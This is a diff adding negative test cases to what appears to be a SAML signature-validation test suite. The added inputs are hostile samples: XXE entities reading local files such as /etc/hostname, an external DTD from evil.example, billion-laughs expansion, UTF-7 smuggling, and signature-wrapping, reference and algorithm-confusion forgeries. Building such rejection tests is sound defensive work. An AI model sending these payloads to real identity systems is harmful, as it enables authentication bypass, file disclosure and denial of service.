@@ -105,6 +105,7 @@ def wrapped(shape: str) -> bytes:
     return forged().replace("</saml:Assertion>", f"{signature[0]}</saml:Assertion>").encode()
 
 
+DIGEST = rb"<ds:DigestValue>[^<]*"
 BAD: dict[str, Any] = {
     "not signed": lambda: document().encode(),
     "signed by another key": lambda: signed(document(), 2),
@@ -124,6 +125,46 @@ BAD: dict[str, Any] = {
     "a comment in a name": lambda: signed(document(user="kbo-uuid.evil")).replace(b".evil", b"<!---->.evil"),
     "a processing instruction": lambda: inside(signed(document()), "<saml:Conditions", "<?x y?>"),
     "a document type": lambda: b'<!DOCTYPE x [<!ENTITY e "kbo-uuid">]>' + signed(document()),
+    "a document type of a file": lambda: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/x">]>' + signed(document()),
+    "a document type from elsewhere": lambda: b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">' + signed(document()),
+    "an entity of parameters": lambda: b'<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///x"> %p;]>' + signed(document()),
+    "laughs by the billion": lambda: (
+        b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a;" * 10) for n in range(9)) + b"]>"
+        + signed(document())
+    ),
+    "a document type that UTF-7 hides": lambda: (
+        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-' + signed(document())
+    ),
+    "a comment that UTF-7 hides": lambda: (
+        b'<?xml version="1.0" encoding="UTF-7"?>' + signed(document()).replace(b"kbo-uuid", b"kbo+ADwAIQ--x--+AD4-uuid")
+    ),
+    "another character set": lambda: b"<?xml version='1.0' encoding='iso-8859-1' ?>" + signed(document()),
+    "something included (XInclude)": lambda: signed(
+        document(user='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>')
+    ),
+    "a signature about nothing": lambda: signed(document()).replace(b'URI="#_a1"', b'URI=""'),
+    "a signature about another document": lambda: signed(document()).replace(b'URI="#_a1"', b'URI="https://x.example"'),
+    "a signature about what XPointer says": lambda: signed(document()).replace(
+        b'URI="#_a1"', b"URI=\"#xpointer(id('_a1'))\""
+    ),
+    "a digest of another assertion": lambda: re.sub(
+        DIGEST, re.findall(DIGEST, signed(document(id="_b")))[0], signed(document())
+    ),
+    "MAC instead of a signature": lambda: signed(document()).replace(
+        b"http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", b"http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
+    ),
+    "the attacker's certificate in it": lambda: signed(document(user="somebody-else"), 3),
+    "not before is to come": lambda: signed(
+        document().replace(f'NotBefore="{stamp(NOW - timedelta(seconds=5))}"', 'NotBefore="2035-01-01T00:00:00Z"')
+    ),
+    "nothing says when it ends": lambda: signed(
+        document().replace(f' NotOnOrAfter="{stamp(NOW + timedelta(seconds=300))}"', "")
+    ),
+    "confirmed for nobody": lambda: signed(re.sub(r"<saml:SubjectConfirmation .*(?=</saml:Subject>)", "", document())),
+    "sender vouches": lambda: signed(document(method="sender-vouches")),
+    "no subject": lambda: signed(re.sub(r"<saml:Subject>.*</saml:Subject>", "", document())),
+    "no conditions": lambda: signed(re.sub(r"<saml:Conditions.*</saml:Conditions>", "", document())),
+    "no id": lambda: signed(document()).replace(b' ID="_a1"', b""),
     "an entity that expands": lambda: b'<!DOCTYPE x [<!ENTITY e "kbo-uuid">]>'
     + signed(document()).replace(b"kbo-uuid", b"&e;"),
     "an element in a text": lambda: signed(document(user="<b>kbo</b>-uuid")),
